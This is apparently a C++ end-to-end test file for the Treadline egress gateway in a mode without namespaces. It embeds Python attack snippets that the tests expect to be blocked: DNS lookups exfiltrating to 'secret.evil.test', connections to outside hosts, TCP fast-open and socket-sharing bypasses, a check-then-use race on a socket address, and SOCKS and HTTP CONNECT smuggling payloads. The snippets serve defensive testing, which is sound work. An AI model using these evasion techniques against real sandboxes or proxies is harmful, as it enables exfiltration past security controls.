// What a hostile program tries where no namespaces can be made: it shares the machine's network, and each way past the
// gateway is shown to be open without Treadline. What is tried everywhere is in egress_attacks_test.cpp.
#include <catch2/catch_test_macros.hpp>

#include "tests/e2e/outside_world.h"

using namespace treadline::test;

namespace {

using Attack = NetworkAttack;

const std::string web = "connect: [\"web.test:80\", \"web.test:443\", \"other.test:80\"], listen: [39419]";

// The address in memory changes from what is allowed to what is not, by another process, while the call is looked at.
std::string racing(const std::string& evil, const std::string& body) {
    return "import mmap, signal, time\n"
           "def at(address, port): return struct.pack('<H', 2) + struct.pack('>H', port) + socket.inet_aton(address) + b'\\0' * 8\n"
           "good = at('127.0.0.1', 39419); evil = " + evil + "\n"
           "libc = ctypes.CDLL(None)\n"
           "where = (ctypes.c_char * 16).from_buffer(mmap.mmap(-1, 4096))\n"
           "where.raw = good\n"
           "flipping = os.fork()\n"
           "while flipping == 0: where.raw = evil; where.raw = good\n"
           "end = time.monotonic() + 1.5\n"
           "while time.monotonic() < end:\n" + body +
           "os.kill(flipping, signal.SIGKILL); os.wait()\n";
}

void all_fail(const std::string& network, const std::vector<Attack>& attacks) {
    OutsideWorld world;
    world.degraded = true;
    all_fail(world, network, attacks);
}

} // namespace

TEST_CASE("without namespaces what rules allow goes through, and nothing else is sent for it", "[e2e][egress][attack][degraded]") {
    OutsideWorld world;
    world.degraded = true;
    const Sent sent = world.held(web, "print(http('web.test', 'GET /MARK HTTP/1.1\\nHost: web.test\\n\\n'))\n"
                                      "print(tcp('web.test', 443, hello(names(b'web.test'))))\n");
    INFO(sent.err << sent.out << nlohmann::json(sent.seen).dump() << sent.violations.dump(1));
    CHECK(sent.violations.empty());
    CHECK(sent.saw("said 80 474554202f4d41524b"));
    CHECK(sent.saw("tcp 93.184.216.34 443"));
    for (const std::string& line : sent.seen) {
        CAPTURE(line);
        CHECK((line.starts_with("dns web.test A") || line.starts_with("tcp 93.184.216.34 ") || line.starts_with("said ")));
    }
}

TEST_CASE("without namespaces no socket reaches anybody but the gateway, in whatever way it is connected", "[e2e][egress][attack][degraded]") {
    const std::string fast = "s = socket.socket(); s.settimeout(None); "; // both are TCP
    all_fail(web, {
        {"a port of `listen` at another address", "tcp('9.9.9.9', 39419)\n", "tcp 9.9.9.9 39419"},
        {"the gateway's own port at another address", "tcp('9.9.9.9', int(os.environ.get('http_proxy', ':8080').rsplit(':', 1)[1]))\n", "tcp 9.9.9.9 8080"},
        {"a service of the loopback", "tcp('127.0.0.1', 5432)\n", "tcp 127.0.0.1 5432"},
        {"the same, by another of its addresses", "tcp('127.8.8.8', 5432)\n", "tcp 127.8.8.8 5432"},
        {"the same, IPv6", "tcp('::1', 5432)\n", "tcp ::1 5432"},
        {"the same, IPv4 in IPv6", "tcp('::ffff:127.0.0.1', 5432)\n", "tcp 127.0.0.1 5432"},
        {"UDP, as QUIC", "udp('9.9.9.9', 443)\n", "udp 9.9.9.9 443", 0}, // told, as expected: libraries ask for such a socket
        {"a lookup by UDP", "dns('secret.evil.test')\n", "dns secret.evil.test", 0},
        {"a lookup by TCP, whoever is asked", "dns_tcp('secret.evil.test', 1, '8.8.8.8')\n", "dns secret.evil.test"},
        {"TCP fast open", fast + "s.sendto(MARK, 0x20000000, ('9.9.9.9', 8080)); s.settimeout(3); s.recv(10)\n", "tcp 9.9.9.9 8080"},
        {"TCP fast open by sendmsg", fast + "s.sendmsg([MARK], [], 0x20000000, ('9.9.9.9', 8080)); s.settimeout(3); s.recv(10)\n", "tcp 9.9.9.9 8080"},
        {"TCP fast open by an option", fast + "s.setsockopt(6, 30, 1); s.connect(('9.9.9.9', 8080)); s.sendall(MARK); s.settimeout(3); s.recv(10)\n", "tcp 9.9.9.9 8080"},
        {"TCP disconnected (AF_UNSPEC) and connected elsewhere",
         "s = socket.socket(); s.connect(('web.test', 80)); ctypes.CDLL(None).connect(s.fileno(), b'\\0' * 16, 16)\n"
         "s.connect(('9.9.9.9', 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'); s.recv(10)\n", "tcp 9.9.9.9 80"},
        {"a copy of the socket", "s = socket.socket(); t = s.dup(); t.connect(('9.9.9.9', 8080)); s.sendall(MARK); s.recv(10)\n", "tcp 9.9.9.9 8080"},
        {"a socket that a child got", "s = socket.socket()\nif os.fork() == 0: quietly(s.connect, ('9.9.9.9', 8080)); quietly(s.sendall, MARK); os._exit(0)\nos.wait()\n", "tcp 9.9.9.9 8080"},
        {"a thread's socket", "import threading\nt = threading.Thread(target=quietly, args=(tcp, '9.9.9.9', 8080)); t.start(); t.join()\n", "tcp 9.9.9.9 8080"},
        {"multipath TCP", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('9.9.9.9', 8080)); s.sendall(MARK)\n", "tcp 9.9.9.9 8080", 0}, // as where the kernel has none
        {"SCTP", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('9.9.9.9', 80))\n", ""},
        {"ping", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('9.9.9.9', 0))\n", ""},
        {"a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n", ""},
        {"a packet socket", "socket.socket(17, socket.SOCK_RAW, 0x300)\n", ""},
        {"the hypervisor", "socket.socket(40, socket.SOCK_STREAM, 0).connect((2, 22))\n", ""},
        {"a source route on a connection to the gateway",
         "s = socket.socket(); s.setsockopt(0, 4, b'\\x83\\x0b\\x04' + socket.inet_aton('9.9.9.9') + socket.inet_aton('8.8.8.8') + b'\\0')\n"
         "s.setblocking(False); quietly(s.connect, ('127.0.0.1', int(os.environ.get('http_proxy', ':8080').rsplit(':', 1)[1])))\n", ""}, // a right of its own on newer kernels
        {"another device", "socket.socket().setsockopt(1, 25, b'lo')\n", ""},
    });
}

TEST_CASE("without namespaces a port that is listened at is no way in", "[e2e][egress][attack][degraded]") {
    OutsideWorld world;
    world.degraded = true;
    const std::string show = "print('listens at', s.getsockname()[0])\n";
    for (const auto& [name, attack] : std::vector<std::pair<std::string, std::string>>{
             {"at a port of the kernel's choice", "s = socket.socket(); s.listen(); " + show},
             {"at another port", "s = socket.create_server(('0.0.0.0', 39420)); " + show},
             {"at an address of the machine's", "s = socket.create_server(('10.0.0.7', 39419)); " + show},
             {"at every address, IPv6", "s = socket.create_server(('::', 39420), family=socket.AF_INET6); " + show}}) {
        INFO(name);
        CHECK(world.without(attack).out.starts_with("listens at"));
        const Sent held = world.held(web, attack);
        INFO(held.err << held.violations.dump(1));
        CHECK(held.out.empty());
        CHECK(held.violations.size() == 1);
    }
    CHECK(world.held(web, "s = socket.create_server(('0.0.0.0', 39419)); " + show).out == "listens at 127.0.0.1\n");
}

TEST_CASE("without namespaces a call whose address changes while it is looked at leads nowhere else", "[e2e][egress][attack][degraded]") {
    OutsideWorld world;
    world.degraded = true;
    const std::string connects = racing("at('9.9.9.9', 8080)", "    s = socket.socket(); s.setblocking(False); libc.connect(s.fileno(), where, 16); s.close()\n");
    CHECK(world.without(connects).saw("tcp 9.9.9.9 8080"));
    const Sent held = world.held(web, connects);
    INFO("held: " << nlohmann::json(held.seen).dump() << held.err << held.violations.dump(1));
    CHECK(held.seen.empty());
    CHECK(held.violations.size() == 1); // that of the other address
    const std::string binds = "names = set()\n" + racing("at('10.0.0.7', 39419)",
                                                         "    s = socket.socket(); s.setsockopt(1, 2, 1); libc.bind(s.fileno(), where, 16)\n"
                                                         "    if libc.listen(s.fileno(), 1) == 0: names.add(s.getsockname()[0])\n"
                                                         "    s.close()\n") + "print(sorted(names))\n";
    CHECK(world.without(binds).out.find("10.0.0.7") != std::string::npos);
    const Sent bound = world.held(web, binds);
    INFO(bound.err);
    CHECK(bound.out == "['127.0.0.1']\n");
}

TEST_CASE("without namespaces the gateway that is asked as a proxy is asked in one way only", "[e2e][egress][attack][degraded]") {
    OutsideWorld world;
    world.degraded = true;
    const std::string ask = "def ask(*parts):\n"
                            "    return tcp('127.0.0.1', int(os.environ['http_proxy'].rsplit(':', 1)[1]), *parts)\n"
                            "def socks(address, port, command=1):\n"
                            "    return ask(b'\\5\\1\\0', b'\\5' + bytes([command]) + b'\\0' + address + struct.pack('>H', port), MARK)\n"
                            "def name(text): return b'\\3' + bytes([len(text)]) + text\n"
                            "def connect(to, more=''): return ask(('CONNECT ' + to + ' HTTP/1.1\\r\\nHost: ' + to + '\\r\\n' + more + '\\r\\n').encode('latin-1'), MARK)\n";
    const Sent allowed = world.held(web, ask + "print(socks(name(b'web.test'), 80)[:2], connect('WEB.test.:443')[:12], b'200' in ask(b'GET http://web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'))\n");
    INFO(allowed.err << allowed.violations.dump(1));
    CHECK(allowed.out == "b'\\x05\\x00' b'HTTP/1.1 200' True\n");
    for (const std::string attack : {
             "socks(name(b'evil.test'), 80)", "socks(name(b'web.test'), 8080)", "socks(name(b'web.test\\0.evil.test'), 80)", "socks(name(b'web.test:80'), 8080)",
             "socks(name(b'web.test/tcp'), 80)", "socks(name(b'*.test'), 80)", "socks(name(b'host'), 80)", "socks(name(b'localhost'), 5432)", "socks(name(b'151587081'), 80)",
             "socks(name(b'[::1]'), 80)", "socks(name(b'9.9.9.9'), 80)", "socks(b'\\1\\x09\\x09\\x09\\x09', 8080)", "socks(b'\\1\\x7f\\0\\0\\1', 5432)",
             "socks(b'\\4' + b'\\0' * 10 + b'\\xff\\xff\\x09\\x09\\x09\\x09', 80)", "socks(b'\\4' + b'\\0' * 15 + b'\\1', 5432)", "socks(name(b''), 80)",
             "socks(name(b'web.test'), 80, command=2)", "socks(name(b'web.test'), 80, command=3)", "socks(b'\\7', 80)", "ask(b'\\5\\1\\2', MARK)", "ask(b'\\4\\1\\0\\x50\\x09\\x09\\x09\\x09\\0')",
             "connect('evil.test:80')", "connect('web.test:8080')", "connect('web.test@evil.test:80')", "connect('web.test')", "connect('web.test:80/tcp')", "connect('web.test:0x50')",
             "connect('127.0.0.1:5432')", "connect('[::ffff:9.9.9.9]:80')", "connect('http://web.test:80/')", "connect('web.test:80', 'Content-Length: 6\\r\\n')",
             "connect('web.test:80', 'X: a\\rb\\r\\n')", "ask(b'GET http://evil.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')", "ask(b'GET http://web.test@evil.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')",
             "ask(b'GET http://web.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')", "ask(b'GET https://web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')",
             "ask(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')", "ask(b'GET http://web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\nHost: other.test\\r\\n\\r\\n')", "ask(MARK * 10)",
             "ask(b'GET http://web.test/ HTTP/1.1\\r\\nX: ' + b'x' * 40000)"}) {
        INFO("attack: " << attack);
        const Sent held = world.held(web, ask + attack + "\n");
        INFO("held: " << nlohmann::json(held.seen).dump() << held.err << held.violations.dump(1));
        CHECK(held.seen.empty());
        CHECK(held.violations.size() == 1);
    }
    // What is said within is judged as anywhere.
    for (const std::string attack : {"ask(b'\\5\\1\\0', b'\\5\\1\\0' + name(b'web.test') + b'\\1\\xbb', hello(names(b'other.test')))",
                                     "ask(b'CONNECT web.test:443 HTTP/1.1\\r\\n\\r\\n', hello(names(b'other.test')))",
                                     "ask(b'CONNECT web.test:443 HTTP/1.1\\r\\n\\r\\n' + hello(names(b'other.test')))",
                                     "ask(b'CONNECT web.test:80 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
                                     "ask(b'CONNECT web.test:80 HTTP/1.1\\r\\n\\r\\nCONNECT web.test:80 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')"}) {
        INFO("attack: " << attack);
        const Sent held = world.held(web, ask + attack + "\n");
        INFO("held: " << nlohmann::json(held.seen).dump() << held.err << held.violations.dump(1));
        CHECK(held.seen.empty());
        CHECK(held.violations.size() == 1);
    }
}

TEST_CASE("without namespaces nobody but the command is served by its gateway", "[e2e][egress][attack][degraded]") {
    OutsideWorld world;
    world.degraded = true;
    // The outsider is started first, and waits for the port that the command tells it in a file.
    const std::string command = "import subprocess, time\n"
                                "port = os.environ['http_proxy'].rsplit(':', 1)[1]\n"
                                "open('port', 'w').write(port)\n"
                                "for _ in range(100):\n"
                                "    if os.path.exists('answer'): break\n"
                                "    time.sleep(0.05)\n"
                                "print(open('answer').read(), b'200' in tcp('127.0.0.1', int(port), b'GET http://web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'))\n";
    const Sent held = world.held(web, command, "i=0; until [ -s port ] || [ $i = 200 ]; do sleep 0.05; i=$((i + 1)); done; "
                                               "curl -s -m 5 --proxy http://127.0.0.1:$(cat port) http://web.test/outsider > /dev/null && echo served > part || echo turned away > part; mv part answer");
    INFO(held.err << nlohmann::json(held.seen).dump());
    CHECK(held.out == "turned away\n True\n");
    CHECK(held.violations.empty());
    CHECK(held.saw("tcp 93.184.216.34 80"));
    CHECK_FALSE(held.saw("2f6f75747369646572")); // /outsider
}
